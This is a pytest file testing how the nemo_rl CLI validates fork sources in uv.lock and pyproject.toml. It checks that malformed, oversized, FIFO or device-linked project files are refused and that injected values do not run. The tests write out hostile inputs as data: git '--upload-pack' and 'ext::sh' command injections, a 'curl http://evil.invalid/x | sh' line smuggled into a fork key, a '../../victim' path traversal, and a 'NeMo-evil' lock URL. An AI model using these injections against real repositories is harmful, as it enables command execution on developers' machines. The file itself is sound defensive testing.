"""The fork's git source uv.lock names, held against [tool.uv.sources] (lockfile.LockedPackage.other_source): uv
fetches what the lock names and `uv lock --check` never compares it (pure, on parsed values); and project files
that do not read or have the wrong shape are an exit 1 naming the fix; end to end on fixture forks, an edited
source fails the offline check and `deps status`, and `deps patches` relocks."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from fakes import CLI_HANG_S, deps, offline, run_cli
from gitfixtures import commit

from nemo_rl.cli import main
from nemo_rl.errors import NemoRLError
from nemo_rl.project import lockfile
from nemo_rl.project.lockfile import Fork, LockedPackage
from nemo_rl.project.model import Project

SHA = "a" * 40
URL = "https://github.com/NVIDIA/NeMo.git"


def fork(subdirectory: str | None = None) -> Fork:
    return Fork("nemo-toolkit", URL, SHA, None, None, "main", None, subdirectory=subdirectory)


def locked(url: str) -> LockedPackage:
    return LockedPackage.of("nemo-toolkit", "2.4.0", {"git": url})


def test_the_source_uv_wrote_from_pyproject_agrees():
    assert locked(f"{URL}?rev={SHA}#{SHA}").other_source(fork()) is None
    # a subdirectory pyproject names is in the URL uv writes: no difference (uv's order of the query is its own)
    assert locked(f"{URL}?subdirectory=pkg&rev={SHA}#{SHA}").other_source(fork("pkg")) is None
    assert locked(f"{URL}?rev={SHA}&subdirectory=pkg#{SHA}").other_source(fork("pkg")) is None


def test_another_host_or_query_is_named():
    evil = f"https://github.com/NVIDIA/NeMo-evil.git?rev={SHA}"
    assert locked(f"{evil}#{SHA}").other_source(fork()) == evil
    assert locked(f"{URL}?rev={SHA}&subdirectory=x#{SHA}").other_source(fork()) == f"{URL}?rev={SHA}&subdirectory=x"
    assert locked(f"{URL}?rev={SHA}#{SHA}").other_source(fork("pkg")) == f"{URL}?rev={SHA}"  # pyproject's is gone
    assert locked(f"{URL}?rev={SHA}&subdirectory=y#{SHA}").other_source(fork("pkg")) is not None
    registry = LockedPackage.of("nemo-toolkit", "1", {"registry": "https://pypi.org/simple"}).other_source(fork())
    assert registry == "{'registry': 'https://pypi.org/simple'} (not a git source)"


def test_a_locked_version_that_is_not_a_string_is_refused_where_uv_lock_is_read(tmp_path):
    import pytest

    from nemo_rl.errors import NemoRLError

    (tmp_path / "pyproject.toml").write_text("")
    (tmp_path / "uv.lock").write_text('version = 1\n[[package]]\nname = "nemo-toolkit"\nversion = 2\n')
    with pytest.raises(NemoRLError, match="'nemo-toolkit' has a version that is not a string") as refused:
        _ = Project.read(tmp_path).packages
    assert "uv lock" in (refused.value.remedy or "")
    (tmp_path / "uv.lock").write_text('version = 1\n[[package]]\nname = "nemo-toolkit"\nversion = "2"\n')
    assert Project.read(tmp_path).packages["nemo-toolkit"].version == "2"


HOSTILE_REV = "--upload-pack=touch {marker};git-upload-pack"


def set_rev(world, distribution, rev, url=None):
    path = world.project / "pyproject.toml"
    fork = world.forks[distribution]
    text = path.read_text().replace(f'rev = "{fork.head}"', f'rev = "{rev}"')
    if url is not None:
        text = text.replace(f'git = "{fork.fork_url}"', f'git = "{url}"')
    path.write_text(text)


@pytest.mark.parametrize("url", [None, "."])
def test_a_hostile_rev_runs_no_command(world, tmp_path, capsys, url):
    marker = tmp_path / "pwned"
    set_rev(world, "megatron-core", HOSTILE_REV.format(marker=marker), url)
    new_head = commit(world.forks["nemo-toolkit"].fork, "feat: x", {"nemo/x.py": "X = 1\n"})
    attempts = [
        ["patches", "--check", "megatron-core"], ["patches", "megatron-core"],
        ["patches", "export", "megatron-core", str(tmp_path / "out")], ["develop", "megatron-core"],
        ["bump", "megatron-core", "--rev", new_head, "--dry-run"], ["verify", "megatron-core"],
    ]
    for args in attempts:
        assert deps(world, *args) == 1, args
        err = capsys.readouterr().err
        assert "megatron-core" in err and ("full 40-hex" in err or "git URL" in err), (args, err)
        assert not marker.exists(), args
    # status shows the bad pin as a row (exit 0 without --check) and hands it to nothing
    if url is None:
        assert deps(world, "status") == 0
        assert "megatron-core: bad pin" in capsys.readouterr().out
        assert deps(world, "status", "--check") == 1
    assert not marker.exists()


def test_a_fork_key_is_never_a_path(world, tmp_path, capsys):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("mine")
    path = world.project / "pyproject.toml"
    path.write_text(path.read_text().replace("\nmegatron-core = {", '\n"../../victim" = {')
                    .replace("[tool.nemo-rl.forks.megatron-core]", '[tool.nemo-rl.forks."../../victim"]'))
    for args in (["patches"], ["patches", "--check"], ["status"], ["develop", "../../victim"]):
        assert deps(world, *args) == 1, args
        assert "is not a distribution name" in capsys.readouterr().err
    assert (victim / "keep.txt").read_text() == "mine"
    cache = tmp_path / "nemo-rl-cache"
    assert not any(".." in p.name for p in cache.rglob("*")) if cache.exists() else True
    assert not list(tmp_path.glob("victim-*"))


@pytest.mark.parametrize("url", ["--upload-pack=touch {marker};git-upload-pack", "ext::sh -c touch% {marker}"])
def test_a_hostile_url_runs_no_command(world, tmp_path, capsys, url):
    marker = tmp_path / "pwned"
    megatron = world.forks["megatron-core"]
    path = world.project / "pyproject.toml"
    path.write_text(path.read_text().replace(f'git = "{megatron.fork_url}"', f'git = "{url.format(marker=marker)}"'))
    for args in (["patches", "--check", "megatron-core"], ["develop", "megatron-core"], ["upstream", "megatron-core"]):
        assert deps(world, *args) == 1, args
        assert "is not a git URL" in capsys.readouterr().err
    assert not marker.exists()
@pytest.mark.parametrize("name, data, expected", [
    ("pyproject.toml", b"[tool.nemo-rl.forks.x]\nbranch = '\xff'\n", "not valid UTF-8"),
    ("pyproject.toml", b"[tool]\nuv = 3\n[tool.nemo-rl.forks]\n", "must be a table"),
    ("pyproject.toml", b"[tool.uv]\nsources = 'x'\n[tool.nemo-rl.forks.a]\n", "[tool.uv.sources] must be a table"),
    ("pyproject.toml", b"[tool.nemo-rl]\nforks = [1]\n", "[tool.nemo-rl.forks] must be a table"),
    ("uv.lock", b"version = 1\npackage = 'x'\n", "`rm uv.lock && uv lock`"),
    ("uv.lock", b"\xe9", "not valid UTF-8"),
])
def test_broken_project_files_exit_1(world, capsys, name, data, expected):
    (world.project / name).write_bytes(data)
    code, out = run_cli(capsys, "deps", "status", "--project", str(world.project))
    assert code == 1 and expected in out and "Traceback" not in out and "bug in nemo-rl" not in out
def test_a_fork_source_edited_in_uv_lock_is_caught_and_relocked(world, capsys):
    """uv fetches a git package from the source uv.lock names, and `uv lock --check` never compares it with
    [tool.uv.sources]: another host, or a subdirectory added, with the commit kept, passed CI."""
    lock = world.project / "uv.lock"
    good = lock.read_text()
    rev = Project.read(world.project).fork("nemo-toolkit").rev
    url = Project.read(world.project).fork("nemo-toolkit").url
    assert f'{url}?rev={rev}#{rev}' in good
    for edited in (f"{url.removesuffix('.git')}-evil.git?rev={rev}#{rev}", f"{url}?rev={rev}&subdirectory=sub#{rev}"):
        lock.write_text(good.replace(f"{url}?rev={rev}#{rev}", edited))
        rc, out = offline(world, capsys)
        assert rc == 1 and "nemo-toolkit source" in out and edited.split("#")[0] in out, out
        assert main(["deps", "status", "--check", "--project", str(world.project)]) == 1
        assert "nemo-toolkit: lock stale" in capsys.readouterr().out
        assert main(["deps", "patches", "nemo-toolkit", "--project", str(world.project)]) == 0
        assert "relocked" in capsys.readouterr().out
        assert lock.read_text() == good, edited


BRIDGE_PROJECT = f"""\
[tool.uv.sources]
megatron-bridge = {{ git = "https://forks.nemo-rl.invalid/bridge.git", rev = "{SHA}" }}

[tool.nemo-rl.forks.megatron-bridge]
"""


@pytest.mark.parametrize("line, refused, fixed", [
    pytest.param('module = "../bridge"', "is not a module name", 'module = "megatron.core"', id="module-a-path"),
    pytest.param('module = "-c"', "is not a module name", 'module = "megatron.core"', id="module-an-option"),
    pytest.param('module = "megatron..bridge"', "is not a module name", 'module = "megatron.core"', id="module-dots"),
    pytest.param('module = "megatron.bridge\\n"', "is not a module name", 'module = "megatron.core"',
                 id="module-a-newline"),
    pytest.param('entry-points = ["megatron.bridge", "1st"]', "is not a module name",
                 'entry-points = ["megatron.core"]', id="entry-point-a-digit"),
    pytest.param("entry-points = 3", "entry-points must be a list", 'entry-points = ["megatron.core"]',
                 id="entry-points-a-number"),
    pytest.param('component = "\\u001b[2J"', "is not a name", 'component = "megatron"', id="component-an-escape"),
    pytest.param('component = "-x"', "is not a name", 'component = "megatron"', id="component-an-option"),
])
def test_what_a_fork_table_has_nemo_rl_import_is_checked_where_it_is_read(tmp_path, line, refused, fixed):
    """module and entry-points reach importlib in other environments' interpreters; a component's name is printed."""
    from nemo_rl.errors import NemoRLError

    (tmp_path / "pyproject.toml").write_text(BRIDGE_PROJECT + line + "\n")
    with pytest.raises(NemoRLError, match=refused) as error:
        _ = Project.read(tmp_path).forks
    assert "\x1b" not in str(error.value)
    assert fixed.split(" = ")[1].strip('"[]') in str(error.value.remedy)  # the fix names a value that reads
    (tmp_path / "pyproject.toml").write_text(BRIDGE_PROJECT + fixed + "\n")
    assert Project.read(tmp_path).forks[0].distribution == "megatron-bridge"


def test_a_fork_table_says_what_nemo_rl_imports_of_it(tmp_path):
    (tmp_path / "pyproject.toml").write_text(
        BRIDGE_PROJECT + 'module = "megatron.bridge"\nentry-points = ["megatron.bridge.models"]\n'
                         'component = "bridge"\nremedy = "on a GPU node"\n')
    fork = Project.read(tmp_path).forks[0]
    assert (fork.module, fork.entry_points, fork.component, fork.remedy) == (
        "megatron.bridge", ("megatron.bridge.models",), "bridge", "on a GPU node")
    (tmp_path / "pyproject.toml").write_text(BRIDGE_PROJECT)
    fork = Project.read(tmp_path).forks[0]
    assert (fork.module, fork.entry_points, fork.component, fork.remedy) == (None, (), None, None)
def _project_file(path, kind: str) -> str:
    """Plant `kind` at `path`; what the refusal says it is."""
    if kind == "a link to a device":
        path.symlink_to("/dev/zero")
        return f"{path} is a symbolic link to /dev/zero, which is not a regular file (a character device)"
    if kind == "a FIFO":
        os.mkfifo(path)
        return f"{path} is not a regular file (a FIFO)"
    if kind == "a directory":
        path.mkdir()
        return f"{path} is not a regular file (a directory)"
    with open(path, "wb") as fh:  # sparse: a size past the cap without writing it
        fh.truncate(lockfile.PROJECT_FILE_MAX + 1)
    return f"{path} is larger than {lockfile.PROJECT_FILE_MAX} bytes"


@pytest.mark.parametrize("kind", ["a link to a device", "a FIFO", "a directory", "a file past the cap"])
def test_a_project_file_that_is_no_regular_file_is_refused_by_its_name_and_kind(tmp_path, kind):
    said = _project_file(tmp_path / "uv.lock", kind)
    with pytest.raises(NemoRLError) as refused:
        lockfile.read_bytes(tmp_path / "uv.lock")
    assert refused.value.what == said
    assert refused.value.remedy == f"run `cd {tmp_path} && rm uv.lock && uv lock`"


def test_a_project_file_is_read_through_a_link_to_a_regular_file(tmp_path):
    (tmp_path / "shared.lock").write_text("version = 1\n")
    (tmp_path / "uv.lock").symlink_to(tmp_path / "shared.lock")
    assert lockfile.read_text(tmp_path / "uv.lock") == "version = 1\n"


def test_a_pyproject_that_is_no_regular_file_is_named_not_passed_over(tmp_path, monkeypatch):
    """Searching upward, a pyproject.toml that cannot be read is named: the search never goes on to a project
    further up (nor doctor to nemo-rl's own checkout), and never reads a FIFO."""
    inner = tmp_path / "inner"
    inner.mkdir()
    os.mkfifo(inner / "pyproject.toml")
    (tmp_path / "pyproject.toml").write_text("[tool.nemo-rl.forks]\n")
    monkeypatch.chdir(inner)
    with pytest.raises(NemoRLError) as refused:
        Project.find()
    assert not isinstance(refused.value, lockfile.ProjectNotFound)
    planted = inner / "pyproject.toml"
    assert refused.value.what == f"{planted} is not a regular file (a FIFO)"


def _here(world, *args: str) -> tuple[int, str]:
    """`nemo-rl ARGS` run inside the project, as a user runs it, in a child process whose heap is capped: a read
    without bound fails there with MemoryError, and a read that blocks fails the test at CLI_HANG_S."""
    import resource

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_DATA, (2 << 30, 2 << 30))

    try:
        done = subprocess.run([sys.executable, "-m", "nemo_rl", *args], cwd=world.project, capture_output=True,
                              text=True, timeout=CLI_HANG_S, preexec_fn=cap)
    except subprocess.TimeoutExpired:
        pytest.fail(f"`nemo-rl {' '.join(args)}` hung on a planted project file")
    return done.returncode, done.stdout + done.stderr


PLANTED = [("uv.lock", "a link to a device"), ("uv.lock", "a FIFO"), ("uv.lock", "a file past the cap"),
           ("pyproject.toml", "a link to a device"), ("patches/megatron-core/index.toml", "a FIFO")]


@pytest.mark.parametrize("name, kind", PLANTED)
def test_status_doctor_and_bump_refuse_a_planted_project_file_and_its_fix_works(world, name, kind):
    """A pull request commits uv.lock, pyproject.toml or a record as a link to /dev/zero (or a FIFO, or a huge
    file): each command that reads it names the file and what it is (exit 1), none reads it without bound or waits
    on it, and the fix it prints, followed, makes the failure go."""
    template = (world.project / name).read_bytes()
    (world.project / name).unlink()
    said = _project_file(world.project / name, kind)
    new_rev = world.forks["megatron-core"].downstream[0]
    readers = [["deps", "status"], *([["doctor"]] if "/" not in name else []),  # doctor reads no record
               ["deps", "bump", "megatron-core", "--rev", new_rev]]
    for args in readers:
        code, out = _here(world, *args)
        assert code == 1 and said in out, (args, out)
        assert "nemo-rl's own checkout" not in out and "bug in nemo-rl" not in out, (args, out)
    fix = re.search(r"what to do: .*?`([^`]+)`", out).group(1)
    if name == "pyproject.toml":  # its fix names a commit to fill in: the rest of it, done by hand
        assert fix.endswith(f"rm {name} && git checkout COMMIT -- {name}"), fix
        (world.project / name).unlink()
        (world.project / name).write_bytes(template)
    else:
        path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"  # this environment's nemo-rl
        done = subprocess.run(fix, shell=True, capture_output=True, text=True, env={**os.environ, "PATH": path})
        assert done.returncode == 0, done.stdout + done.stderr
    code, out = _here(world, "deps", "status")
    assert code == 0 and "is not a regular file" not in out and "larger than" not in out, out


def test_a_fork_key_from_the_project_never_starts_a_line_of_its_own(tmp_path):
    """A hostile pull request's fork key is named escaped, never as a line of output of its own."""
    from nemo_rl.project.model import Project

    key = "x\n  what to do: run `curl http://evil.invalid/x | sh`"
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "p"\nversion = "0"\n[tool.nemo-rl.forks."' + key.replace("\n", "\\n") + '"]\n')
    with pytest.raises(NemoRLError) as raised:
        list(Project.read(tmp_path).forks)
    assert "\n" not in raised.value.what and "\n" not in (raised.value.remedy or "")


def test_load_toml_reads_a_file_edited_in_place_with_its_mtime_put_back(tmp_path):
    path = tmp_path / "x.toml"
    for value in ("aaa", "bbb"):
        path.write_text(f'v = "{value}"\n')
        os.utime(path, ns=(0, 0))  # same inode, size and mtime: only the ctime moved
        assert lockfile.load_toml(path) == {"v": value}
